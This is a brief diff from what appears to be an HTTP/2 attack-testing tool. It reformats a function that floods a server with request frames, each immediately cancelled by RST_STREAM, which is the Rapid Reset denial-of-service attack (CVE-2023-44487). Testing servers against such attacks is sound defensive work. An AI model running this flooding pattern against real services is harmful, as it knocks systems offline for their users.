@@ -113,9 +113,7 @@ def rapid_reset(attacker: Attacker) -> None:
 
 @attack("rapid reset of the method for everybody (CVE-2023-44487)")
 def rapid_reset_open(attacker: Attacker) -> None:
-    whole = (
-        head(n, INFO) + body(n, message(b""), end=True) + frames.rst_stream(n, ErrorCode.CANCEL) for n in odd()
-    )
+    whole = (head(n, INFO) + body(n, message(b""), end=True) + frames.rst_stream(n, ErrorCode.CANCEL) for n in odd())
     flood(attacker, greet(attacker), whole)
 
 
